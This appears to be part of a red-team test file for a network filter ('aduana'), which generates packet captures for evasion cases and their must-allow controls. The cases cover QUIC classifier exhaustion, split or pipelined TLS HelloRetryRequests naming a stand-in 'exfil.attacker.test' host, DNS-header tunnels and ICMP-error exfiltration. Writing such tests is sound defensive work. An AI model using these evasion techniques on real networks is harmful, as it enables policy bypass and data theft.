    ack = quic_initial(srv, scid, 1, b"\x02\x00\x00\x00\x00", pad_to=0, key_dcid=dcid)
    hs = b"\xe0\x00\x00\x00\x01\x08" + srv + b"\x08" + scid + b"\x40\x40" + prand(n + "hs", 64)
    udp(cap, O1, 48204, SOC, 443, ack + hs + b"\x00" * (1200 - len(ack) - len(hs)), gap=2000)
    udp(cap, O1, 48204, SOC, 443, b"\x41" + srv + passm(n) + prand(n + "c2", 300), gap=20000)
    udp(cap, SOC, 443, O1, 48204, b"\x41" + scid + passm(n) + prand(n + "s2", 300), gap=20000)
    return cap, {"pass": [passm(n)]}



# ------------------------------------------------ red team round 19
#
# QUIC flows decided before aduana ever read an Initial, Initials hidden behind another
# long-header packet of the same datagram, and an office TCP flow given up before its
# first byte.

def quic_junk(n, i, size=60):
    """A client datagram no QUIC server reads as a new connection: a short header
    (first byte 0x40) and a random DCID and body. A server finds no connection for the
    DCID and drops it (RFC 9000 5.2.2; at most a Stateless Reset answers it)."""
    return b"\x40" + prand("%s-junk%d" % (n, i), size)


@case
def case_quic_junk_first_fb(n):
    """Office, QUIC: 32 junk short-header datagrams on UDP 443 (every QUIC server drops
    them: no connection has their DCID), then a genuine Initial for www.facebook.com in
    one CRYPTO frame, and 1-RTT. aduana opens its QUIC reader only on a flow whose first
    client datagram starts with an Initial; the 32 junk datagrams spend the packet
    budget (classify_packets), the office gives up and allows, and once a UDP flow is
    decided without FLOW_UDP_QUIC, neither judge_quic (pending flows only) nor
    judge_quic_after (QUIC flows only) looks at its datagrams again. The server creates
    the connection from the Initial and serves www.facebook.com."""
    cap = Capture()
    cport = 48301
    for i in range(32):
        udp(cap, O1, cport, SOC, 443, quic_junk(n, i), gap=2000)
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    quic_flow(cap, n, cport, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m))])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_idle_first_fb(n):
    """Office, QUIC: one junk short-header datagram, 11 s of silence (past
    classify_seconds = 10: the sweep gives the pending flow up, the office allows it),
    then the www.facebook.com Initial: read by no one but the server."""
    cap = Capture()
    cport = 48302
    udp(cap, O1, cport, SOC, 443, quic_junk(n, 0), gap=2000)
    cap.idle(11)
    udp(cap, O1, cport, SOC, 443, quic_junk(n, 1), gap=2000)
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    quic_flow(cap, n, cport, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m))])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_resume_then_new_ok(n):
    """Must pass (twin of quic_junk_first_fb / quic_idle_first_fb): quic-go, quiche and
    Chrome keep one UDP socket for a client's connections to a server. A connection's
    1-RTT packets after 200 s without traffic (past aduana's udp timeout of 120 s: to us
    a new flow that starts with a short header), then, on the same socket, a new
    connection's Initial for www.example.org (no class) and its 1-RTT packets. A fix
    must read (or at least not refuse) an Initial that comes after the first datagram."""
    cap = Capture()
    cport = 48303
    old = prand(n + "oldcid", 8)
    udp(cap, O1, cport, SOC, 443, b"\x41" + old + prand(n + "o1", 200), gap=2000)
    udp(cap, SOC, 443, O1, cport, b"\x41" + prand(n + "oc", 8) + prand(n + "o2", 200), gap=20000)
    cap.idle(200)
    for i in range(3):
        udp(cap, O1, cport, SOC, 443, b"\x41" + old + prand("%s-o3%d" % (n, i), 200), gap=20000)
        udp(cap, SOC, 443, O1, cport, b"\x41" + prand(n + "oc", 8) + prand("%s-o4%d" % (n, i), 60),
            gap=20000)
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, "www.example.org")
    quic_flow_pass(cap, n, cport, [quic_initial(dcid, scid, 0, quic_crypto_frame(0, m))])
    return cap, {"pass": [passm(n)]}


def quic_ping_initial(dcid, scid, pn, key_dcid=None):
    """An Initial with a PING frame only (a client's probe, RFC 9002 6.2.4), padded."""
    return quic_initial(dcid, scid, pn, b"\x01", key_dcid=key_dcid)


def quic_handshake_junk(dcid, scid, n, size=80):
    """A v1 long-header Handshake packet (type 2) with a valid Length and opaque bytes:
    a server without Handshake keys yet buffers or drops it, and reads the next packet
    of the datagram (RFC 9000 12.2: coalesced packets are processed one by one)."""
    body = prand(n + "hsj", size)
    return (b"\xe0\x00\x00\x00\x01" + bytes([len(dcid)]) + dcid + bytes([len(scid)]) + scid
            + struct.pack("!H", 0x4000 | len(body)) + body)


@case
def case_quic_giveup_coalesced_fb(n):
    """Office, QUIC: the first half of a www.facebook.com ClientHello (CRYPTO [0, 1000)
    of a 1.7 KB hello: a post-quantum key share), PING-only Initials to keep the
    connection alive, 10.5 s on a PING that spends the time budget (the office gives
    the half-read flow up: allowed, its slot closed), then the rest of the hello in an
    Initial coalesced behind a Handshake packet of the same connection. A server
    (ngtcp2, quic-go) routes the datagram by its first DCID to the connection and reads
    every coalesced packet: the Handshake one is buffered (no keys yet), the Initial
    completes the hello, and www.facebook.com is served. judge_quic_after, with the
    slot gone, only asks whether the datagram's FIRST packet is an Initial
    (quic_looks_initial)."""
    cap = Capture()
    cport = 48304
    dcid, scid = _q_ids(n)
    m = quic_hs_hello_sni_last(n, FB, 1500)
    cut = 1000
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:cut])), gap=2000)
    for i in range(1, 4):
        cap.idle(3)
        udp(cap, O1, cport, SOC, 443, quic_ping_initial(dcid, scid, i), gap=2000)
    cap.idle(1.5)
    udp(cap, O1, cport, SOC, 443, quic_ping_initial(dcid, scid, 4), gap=2000)
    rest = quic_initial(dcid, scid, 5, quic_crypto_frame(cut, m[cut:]), pad_to=0)
    hs = quic_handshake_junk(dcid, scid, n)
    quic_flow(cap, n, cport, [hs + rest])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_giveup_ctl(n):
    """Control for quic_giveup_coalesced_fb: the same, the rest of the hello in an Initial
    that comes first in its datagram: refused (a client Initial after the slot is gone)."""
    cap = Capture()
    cport = 48305
    dcid, scid = _q_ids(n)
    m = quic_hs_hello_sni_last(n, FB, 1500)
    cut = 1000
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:cut])), gap=2000)
    for i in range(1, 4):
        cap.idle(3)
        udp(cap, O1, cport, SOC, 443, quic_ping_initial(dcid, scid, i), gap=2000)
    cap.idle(1.5)
    udp(cap, O1, cport, SOC, 443, quic_ping_initial(dcid, scid, 4), gap=2000)
    quic_flow(cap, n, cport, [quic_initial(dcid, scid, 5, quic_crypto_frame(cut, m[cut:]))])
    return cap, {"leak": [leak(n)]}


@case
def case_office_idle_hello_vk(n):
    """Office, TCP: the handshake, 11 s of silence (past classify_seconds: the sweep gives
    the pending flow up and the office allows it), then the m.vk.com ClientHello. A TLS
    client may connect early (a browser's preconnect, a pool's warm socket) and speak
    later; the server reads the hello whenever it comes."""
    cap = Capture()
    t = ETcp(cap, O1, 48306, SOC, 443, isn=0x48306, rtt_us=2000)
    t.handshake()
    cap.idle(11)
    t.data(True, hello(n, sni=VK, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53) + marked_record(leak(n), n))
    return cap, {"leak": [leak(n)]}


@case
def case_quic_pool_full_chaos_fb(n, pins=512):
    """Office, QUIC: 512 QUIC flows from the same host (other source ports), each the first
    half of a hello in one Initial: each holds a first-bytes slot while its hello is being
    joined, and none is 5 s stale. Then the chaos-protected www.facebook.com Initial of
    quic_chaos_fb: no slot for it (a QUIC flow takes back only a stale one), the office
    allows the classifier_alloc exception and nDPI alone reads it, which cannot read
    CRYPTO frames out of order: no name, allowed. The server reads www.facebook.com."""
    cap = Capture()
    m0 = quic_hs_hello(n + "pin", "www.example.org", pad=1500)
    for i in range(pins):
        d = prand("%s-pd%d" % (n, i), 8)
        udp(cap, O1, 20000 + i, SOC, 443, quic_initial(d, prand(n + "ps", 8), 0,
                                                       quic_crypto_frame(0, m0[:1000])), gap=200)
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    cut = m.find(FB.encode()) + 4
    frames = quic_crypto_frame(cut, m[cut:]) + b"\x01" + quic_crypto_frame(0, m[:cut])
    quic_flow(cap, n, 48307, [quic_initial(dcid, scid, 0, frames)])
    return cap, {"leak": [leak(n)]}


def quic_initial_x(dcid, scid, pn, frames, token=b"", fixed=True, pad_to=1200):
    """quic_initial with a Token and, fixed=False, the QUIC Bit (0x40) clear: RFC 9287
    lets a client clear it in an Initial that carries a NEW_TOKEN token from a server that
    sent grease_quic_bit; ngtcp2 decodes such a packet as any other
    (NGTCP2_PKT_FLAG_FIXED_BIT_CLEAR is a flag, not an error)."""
    return _q_protect(dcid, scid, pn, frames, QUIC_V1_SALT, b"quic", 0xC0 if fixed else 0x80, 1,
                      token=token, pad_to=pad_to)


@case
def case_quic_greasebit_chaos_fb(n):
    """Office, QUIC: the chaos-protected www.facebook.com Initial with the QUIC Bit clear
    and a token (RFC 9287 3.1: a client that got a NEW_TOKEN token on a connection where
    the server sent grease_quic_bit may clear the bit in its Initials). ngtcp2 reads the
    packet; aduana opens its reader only on a first byte with both 0x80 and 0x40
    (quic_looks_initial), so the Initial is nDPI's alone, which reads no name in it."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    cut = m.find(FB.encode()) + 4
    frames = quic_crypto_frame(cut, m[cut:]) + b"\x01" + quic_crypto_frame(0, m[:cut])
    quic_flow(cap, n, 48308, [quic_initial_x(dcid, scid, 0, frames, token=prand(n + "tok", 32),
                                             fixed=False)])
    return cap, {"leak": [leak(n)]}


@case
def case_quic_port8443_chaos_fb(n):
    """Office, QUIC to UDP 8443 (an HTTP/3 endpoint an Alt-Svc header may name on any
    port, RFC 7838): the chaos-protected www.facebook.com Initial. aduana reads QUIC only
    toward port 443 (judge_quic), nDPI cannot read the reordered frames."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    m = quic_hs_hello(n, FB)
    cut = m.find(FB.encode()) + 4
    frames = quic_crypto_frame(cut, m[cut:]) + b"\x01" + quic_crypto_frame(0, m[:cut])
    src, dst, cport = O1, SOC, 48309
    udp(cap, src, cport, dst, 8443, quic_initial(dcid, scid, 0, frames), gap=2000)
    udp(cap, dst, 8443, src, cport, b"\xe0\x00\x00\x00\x01\x08" + prand(n + "sd", 8) + b"\x08"
        + prand(n + "ss", 8) + prand(n + "srv", 1150), gap=20000)
    udp(cap, src, cport, dst, 8443, b"\x40" + prand(n + "sd", 8) + prand(n + "c1", 300), gap=20000)
    udp(cap, src, cport, dst, 8443, b"\x41" + prand(n + "sd", 8) + leak(n) + prand(n + "c2", 300), gap=20000)
    return cap, {"leak": [leak(n)]}


def h2_hb(authority, marker):
    return (b"\x82\x86\x84" + b"\x01" + bytes([len(authority)]) + authority
            + b"\x00\x06x-mark" + bytes([len(marker)]) + marker)


@case
def case_app_h2c_stream3_vk(n):
    """Office, h2c on port 80: the preface, SETTINGS, a HEADERS frame on stream 1 for
    www.example.org and, in the same segment, a HEADERS frame on stream 3 for m.vk.com
    (RFC 9113 5.1.1: a client opens streams 1, 3, ... and may send them at once; nginx,
    h2o, Go serve each stream by its own :authority, 8.3.1). aduana reads the first header
    block only (h2.h), although the stream 3 block is in the first bytes, before any
    verdict (HTTP/1 pipelined heads there are read: judge_http_head)."""
    cap = Capture()
    t = ETcp(cap, O1, 48310, SOC, 80, isn=0x48310, rtt_us=20000)
    t.handshake()
    req = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one"))
           + h2_frame(1, 5, 3, h2_hb(b"m.vk.com", leak(n))))
    t.data(True, req)
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_app_h2c_stream3_ok(n):
    """Must-allow twin of app_h2c_stream3_vk: two requests, both for www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, 48311, SOC, 80, isn=0x48311, rtt_us=20000)
    t.handshake()
    req = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one"))
           + h2_frame(1, 5, 3, h2_hb(b"www.example.org", passm(n))))
    t.data(True, req)
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_app_h2c_upgrade_vk(n):
    """Office, port 80: an HTTP/1.1 request for www.example.org with `Upgrade: h2c` and
    HTTP2-Settings (RFC 7540 3.2), and right behind it the preface, SETTINGS and a HEADERS
    frame on stream 3 for m.vk.com. A server that upgrades (Apache mod_http2, Go's h2c,
    nghttpd) answers stream 1 (the upgraded request) and stream 3 by its :authority.
    aduana reads the HTTP/1 head's Host; the h2 bytes behind it are no HTTP/1 head."""
    cap = Capture()
    t = ETcp(cap, O1, 48312, SOC, 80, isn=0x48312, rtt_us=20000)
    t.handshake()
    req = (b"GET / HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
           + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 3, h2_hb(b"m.vk.com", leak(n))))
    t.data(True, req)
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_quic_reclaim_restart_fb(n, pins=512):
    """Office, QUIC: CRYPTO [0, 1000) of a 1.7 KB www.facebook.com hello (the name in
    [1000, end)); 511 other half-read QUIC flows fill the slot pool; 5.5 s later one more
    QUIC flow takes back the stalest slot, the victim's (a classifier_alloc exception,
    which the office allows: the flow stays pending without its reader). The victim's
    [1000, end) Initial then opens a fresh reader (judge_quic: stream_idx is
    FLOW_NO_CLS) that never sees offset 0: no hello, no verdict until the time budget;
    its 1-RTT datagrams pass meanwhile and the office allows it at the end. The server
    joined both Initials and serves www.facebook.com."""
    cap = Capture()
    cport = 48314
    dcid, scid = _q_ids(n)
    m = quic_hs_hello_sni_last(n, FB, 1500)
    cut = 1000
    assert m.find(FB.encode()) > cut
    udp(cap, O1, cport, SOC, 443, quic_initial(dcid, scid, 0, quic_crypto_frame(0, m[:cut])), gap=2000)
    m0 = quic_hs_hello(n + "pin", "www.example.org", pad=1500)
    for i in range(pins):
        if i == pins - 1:
            cap.idle(5.5)
        d = prand("%s-pd%d" % (n, i), 8)
        udp(cap, O1, 21000 + i, SOC, 443, quic_initial(d, prand(n + "ps", 8), 0,
                                                       quic_crypto_frame(0, m0[:1000])), gap=200)
    quic_flow(cap, n, cport, [quic_initial(dcid, scid, 1, quic_crypto_frame(cut, m[cut:]))])
    return cap, {"leak": [leak(n)]}


# --- red team round 20 (the strict zone)

def hrr_win_flight(t, seed, chunk, win):
    """The server's HelloRetryRequest (and its ChangeCipherSpec) to a client whose
    receive window is `win` bytes (no window scale): Linux sends what fits, one
    window at a time (tcp_write_wakeup splits the record at the window's edge),
    each acknowledged by the client with the same small window."""
    flight = hrr_flight(seed)
    for i in range(0, len(flight), chunk):
        t.raw(False, "PA", flight[i:i + chunk], gap=200000)
        t.sseq += len(flight[i:i + chunk])
        t.raw(True, "A", window=win)


def hrr_small_window(n, cport, isn, server, name1, name2, mark, win=40, client=S1):
    """TLS 1.3 with a HelloRetryRequest that the client's tiny receive window (40 bytes,
    SYN without Window Scale) makes the server send in 40-byte segments; then the
    client opens its window, sends ChangeCipherSpec and its second ClientHello for
    name2 (mark in its padding), and the session goes on with mark in a record."""
    cap = Capture()
    t = ETcp(cap, client, cport, server, 443, isn=isn, rtt_us=20000)
    opts = [("MSS", 1460), ("SAckOK", b"")]
    t.raw(True, "S", options=opts, window=win)
    t.cseq += 1
    t.raw(False, "SA", options=opts)
    t.sseq += 1
    t.raw(True, "A", window=win)
    ch1 = hello(n, sni=name1)
    t.raw(True, "PA", ch1, window=win)
    t.cseq += len(ch1)
    t.raw(False, "A")
    hrr_win_flight(t, n, win, win)
    t.raw(True, "A")  # the window opens (64240)
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, mark + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni=name2, sid=sid, extra=[pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_hrr_split_front(n):
    """Shared front, TLS 1.3 HelloRetryRequest cut into segments by the client's own
    window: the client advertises a 40-byte receive window, so the (honest) front sends
    its HRR 40 bytes at a time. The first ClientHello names portal.customs.example
    (allowed); the second, after the HRR, names exfil.attacker.test, which OpenSSL
    serves (RFC 8446 4.1.2 forbids the change; hrr_other_name). The second hello is
    compared with the first only when the server's first segment is seen to be an HRR;
    split, it is not, the reader is closed, and the second hello is then only a handshake
    record in clear before application data, which TLS framing allows. Must drop
    (malformed, as hrr_other_name), the second hello must not pass."""
    return hrr_small_window(n, 48400, 400, FRONT, FRONT_NAME, EVIL, leak(n)), {"leak": [leak(n)]}


@case
def case_hrr_split_ok(n):
    """Must-allow twin of hrr_split_front at the e2m endpoint: the same 40-byte window
    and split HRR, the second ClientHello names the same server (e2m.customs.example).
    A fix that reassembles the server's first bytes (or refuses a second plaintext hello
    it was not told to expect) must still let this honest HRR through."""
    return hrr_small_window(n, 48401, 401, E2M, E2M_NAME, E2M_NAME, passm(n)), {"pass": [passm(n)]}


def hrr_pipelined(n, cport, isn, server, name1, name2, mark):
    """The client sends its first ClientHello (no usable key share: an HRR is certain),
    then at once ChangeCipherSpec and its second ClientHello, before the server's HRR;
    then the HRR, the server's flight, and the session."""
    cap = Capture()
    t = ETcp(cap, S1, cport, server, 443, isn=isn, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni=name1)
    t.send(True, ch1)
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, mark + b"\x00" * 40)
    t.send(True, CCS + hello(n, sni=name2, sid=sid, extra=[pad]), gap=1000)
    t.ack(False)
    t.data(False, hrr_flight(n))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_hrr_pipe_front(n):
    """Shared front: the client's first ClientHello (portal.customs.example) offers
    supported_groups but no key share the server takes, so the HelloRetryRequest is
    certain; the client does not wait for it and sends ChangeCipherSpec and its second
    ClientHello (exfil.attacker.test) right behind the first. The server reads the
    second hello from its queue after writing the HRR: OpenSSL serves the new name.
    The second hello is read (stream_hello2) only at a client segment after the HRR,
    and by then it has passed. Must drop at the second hello."""
    return hrr_pipelined(n, 48402, 402, FRONT, FRONT_NAME, EVIL, leak(n)), {"leak": [leak(n)]}


@case
def case_hrr_pipe_same(n):
    """Control of hrr_pipe_front at the e2m endpoint: the second hello sent early names
    the same server. No honest client sends a second ClientHello before the HRR it
    answers (RFC 8446 4.1.2: it carries the HRR's cookie and the key share of the
    group the HRR chose), so it is refused whatever it names (the red team's draft
    had it as a must-allow twin, for a fix that would compare the two names)."""
    return hrr_pipelined(n, 48403, 403, E2M, E2M_NAME, E2M_NAME, leak(n)), {"leak": [leak(n)]}


# --- DNS to the resolver: a message that is a DNS header and nothing of DNS after it

from scapy.layers.dns import DNSRROPT, EDNS0TLV  # noqa: E402


def dns_hdr(ident, resp):
    """A 12-byte DNS header: a standard query (RD) or its answer, QDCOUNT 1."""
    return struct.pack("!HHHHHH", ident, 0x8180 if resp else 0x0100, 1, 0, 0, 0)


@case
def case_dns_udp_hdr_tunnel(n):
    """Resolver, UDP: a genuine query and answer (nDPI: DNS, allowed), then datagrams
    that are a DNS header (QR right, opcode 0, QDCOUNT 1) followed by SSH binary
    packets, each way. Each later datagram is checked by its first 12 bytes only
    (policy_dns_plausible): no question follows (the first 'label' is 0x4c = 76 > 63
    bytes, no DNS name), and the message runs far past any record the counts
    announce. A resolver answers FORMERR and a tunnel endpoint reads the rest. Not
    DNS: must drop at the first such datagram."""
    cap = Capture()
    q = bytes(DNS(id=0x6161, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    a = bytes(DNS(id=0x6161, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                  an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
    udp(cap, S1, 48410, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 48410, a)
    for i in range(3):
        body = leak(n) + prand("%s-c%d" % (n, i), 300)
        udp(cap, S1, 48410, RESOLVER, 53, dns_hdr(0x6200 + i, False) + body)
        udp(cap, RESOLVER, 53, S1, 48410, dns_hdr(0x6200 + i, True) + leak(n) + prand("%s-s%d" % (n, i), 200))
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_hdr_tunnel(n):
    """Resolver, TCP: dns_tcp_after with each tunnel message behind a DNS header
    (length, header with QDCOUNT 1, then 600 bytes of no DNS). The message check
    (conform_dns) reads the length and the header only. Must drop at the first such
    message."""
    cap = Capture()
    t = ETcp(cap, S1, 48411, RESOLVER, 53, isn=411, rtt_us=4000)
    t.handshake()
    q, a = dns_pair(E2M_NAME, "A", 0x6363, E2M)
    t.data(True, q)
    t.data(False, a)
    body = dns_hdr(0x6364, False) + leak(n) + prand(n, 600)
    t.data(True, struct.pack("!H", len(body)) + body)
    body = dns_hdr(0x6364, True) + leak(n) + prand(n + "s", 600)
    t.data(False, struct.pack("!H", len(body)) + body)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_dns_edns_ok(n):
    """Must-allow twin of the DNS tunnel cases: genuine queries with an EDNS0 OPT
    record (RFC 6891) and a DNS cookie (RFC 7873) in the additional section, 0x20
    mixed-case names, a TXT query, and answers with several records (a CNAME chain, an
    OPT): a fix that parses the whole message must take all of it."""
    cap = Capture()
    opt = DNSRROPT(rclass=1232, rdata=[EDNS0TLV(optcode=10, optdata=prand(n + "ck", 8))])
    seen = []
    qs = [(0x6565, "E2m.CuStOms.eXample", "A"), (0x6566, "_dmarc.customs.example", "TXT")]
    for ident, name, qt in qs:
        q = bytes(DNS(id=ident, rd=1, qd=DNSQR(qname=name, qtype=qt), ar=opt))
        if qt == "A":
            an = (DNSRR(rrname=name, type="CNAME", ttl=300, rdata="api." + E2M_NAME)
                  / DNSRR(rrname="api." + E2M_NAME, type="A", ttl=300, rdata=E2M))
        else:
            an = DNSRR(rrname=name, type="TXT", ttl=300, rdata="v=DMARC1; p=reject")
        a = bytes(DNS(id=ident, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qt), an=an, ar=opt))
        udp(cap, S1, 48412, RESOLVER, 53, q)
        udp(cap, RESOLVER, 53, S1, 48412, a)
        seen += [q, a]
    return cap, {"pass": seen}


# --- ICMP errors that quote an allowed flow: the quote is the carrier

def icmp_err(cap, src, dst, quoted, typ=3, code=4, rest=1200, gap=20000):
    """An ICMPv4 error from src to dst quoting the datagram `quoted` (bytes)."""
    cap.emit(l2(src, dst) / IP(src=src, dst=dst) / ICMP(type=typ, code=code, nexthopmtu=rest)
             / Raw(quoted), gap)


@case
def case_icmp_err_tunnel_e2m(n):
    """Strict zone: an honest, allowed TLS session to e2m; then the client sends 20 ICMP
    'fragmentation needed' errors to the e2m server, each quoting a 'datagram' of that
    session (E2M:443 -> client) whose quoted bytes after the TCP header are 1000 bytes
    of another protocol. judge_icmp_flow forwards an error that quotes a packet of an
    allowed flow, toward that packet's sender, whatever its length and whatever follows
    the quoted headers: a carrier of any bytes to the endpoint, outside the TLS
    framing the flow is held to (ICMP tunnels: ptunnel/icmptunnel use echo, which the
    strict zone drops at the first packet; the error types are the way left). No host
    quotes 1000 bytes of a TCP segment its stack never received; RFC 1812 4.3.2.3
    bounds an error at 576 bytes. Must not pass (the TLS flow itself may stay allowed)."""
    cap = Capture()
    cport = 48420
    t = tls_flow(cap, S1, cport, E2M, 420, n, send_whole(hello(n)), passm(n), close=False)
    for i in range(20):
        q = bytes(IP(src=E2M, dst=S1, id=0x4000 + i, flags="DF")
                  / TCP(sport=443, dport=cport, flags="PA", seq=t.sseq + i * 1000, ack=t.cseq,
                        window=501)
                  / Raw(leak(n) + prand("%s-%d" % (n, i), 1000)))
        icmp_err(cap, S1, E2M, q)
    t.close()
    return cap, {"leak": [leak(n)], "pass": [passm(n)]}


@case
def case_icmp_err_udp_ok(n):
    """Must-allow twin: the resolver's answer arrives after the client's socket closed;
    the client's stack sends ICMP port unreachable quoting the whole answer (Linux
    quotes up to 576 bytes of IPv4), which must still reach the resolver (and the DNS
    flow stays allowed)."""
    cap = Capture()
    cport = 48421
    q = bytes(DNS(id=0x6767, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    a = bytes(DNS(id=0x6767, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"),
                  an=DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=E2M)))
    udp(cap, S1, cport, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, cport, a, gap=3000000)
    quoted = bytes(IP(src=RESOLVER, dst=S1) / UDP(sport=53, dport=cport) / Raw(a))
    err = bytes(ICMP(type=3, code=3) / Raw(quoted))
    icmp_err(cap, S1, RESOLVER, quoted, code=3, rest=0)
    return cap, {"pass": [q, err]}


@case
def case_icmp_err_office_exfil(n):
    """The strict zone reaches a forbidden destination through ICMP errors. An office
    host browses www.example.org at 203.0.113.70 (office: default allow). A strict-zone
    host (10.10.1.10) sends ICMP 'fragmentation needed' errors to 203.0.113.70, each
    quoting a 'segment' 203.0.113.70:80 -> office host of that flow with 1000 bytes of
    data. judge_icmp_flow takes the error as the office flow's (the error goes to the
    quoted packet's sender, the flow is not dropped, its sender is outside) and
    forwards it; the error's own source, a strict-zone host whose profile drops every
    flow to that address at its first packet, is never judged. Must drop: no byte from
    the strict zone to a non-endpoint address (DESIGN 4, 'nothing leaks while
    classifying')."""
    cap = Capture()
    cport = 48422
    t = ETcp(cap, O1, cport, SOC, 80, isn=422, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/7.88.1\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
    for i in range(10):
        q = bytes(IP(src=SOC, dst=O1, id=0x4100 + i, flags="DF")
                  / TCP(sport=80, dport=cport, flags="PA", seq=t.sseq + i * 1000, ack=t.cseq)
                  / Raw(leak(n) + prand("%s-%d" % (n, i), 1000)))
        icmp_err(cap, S1, SOC, q)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_icmp_err_passthru_exfil(n):
    """The same without any zone's flow: an outside host (203.0.113.66) sends one TCP SYN
    to an address of the site that lies in no zone (198.18.0.1; frames from outside to
    such an address are passthrough, DESIGN 8), which gives the flow table an allowed
    entry 203.0.113.66 -> 198.18.0.1. A strict-zone host then sends ICMP errors to
    203.0.113.66 quoting packets of that entry, each with 1000 bytes of data: forwarded
    as that flow's errors. Must drop."""
    cap = Capture()
    x, y = "203.0.113.66", "198.18.0.1"
    cap.emit(l2(x, y) / IP(src=x, dst=y) / TCP(sport=40000, dport=443, flags="S", seq=77,
                                              options=[("MSS", 1460)]), 10000)
    for i in range(10):
        q = bytes(IP(src=x, dst=y, id=0x4200 + i)
                  / TCP(sport=40000, dport=443, flags="PA", seq=78 + i * 1000, ack=1)
                  / Raw(leak(n) + prand("%s-%d" % (n, i), 1000)))
        icmp_err(cap, S1, x, q)
    return cap, {"leak": [leak(n)]}


@case
def case_icmp_err_router_ok(n):
    """Must-allow twin of icmp_err_office_exfil: the office's own gateway (10.20.0.1, an
    address of the office zone, not the flow's host) cannot forward the server's
    1400-byte segment into a smaller-MTU link and sends 'fragmentation needed' (MTU
    1280) to the server, quoting the segment's headers and its first 520 bytes
    (RFC 1812: up to 576 in all). A fix that judges an error's source by its own zone,
    or asks it to be the quoted datagram's destination, must still let a router of the
    flow's own zone through (PMTU discovery)."""
    cap = Capture()
    cport = 48423
    t = ETcp(cap, O1, cport, SOC, 80, isn=423, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /big HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
    seg = b"HTTP/1.1 200 OK\r\nContent-Length: 1362\r\n\r\n" + prand(n, 1362)
    seg = seg[:1400]
    q = bytes(IP(src=SOC, dst=O1, id=0x4300, flags="DF")
              / TCP(sport=80, dport=cport, flags="PA", seq=t.sseq, ack=t.cseq) / Raw(seg))[:576 - 28]
    gw = "10.20.0.1"
    icmp_err(cap, gw, SOC, q, rest=1280)
    err = bytes(ICMP(type=3, code=4, nexthopmtu=1280) / Raw(q))
    t.data(False, seg[:1200])
    t.data(False, seg[1200:])
    t.close()
    return cap, {"pass": [err]}


# ------------------------------------------------ red team round 20b (office: fragments, remote access, proxies, keep-alive, QUIC over IPv6)
#
# The office allows exceptions and give-ups (case.conf), so whatever makes aduana take a
# fragment exception or give a flow up unread lets a blocked class through. Ports 49001-49099.


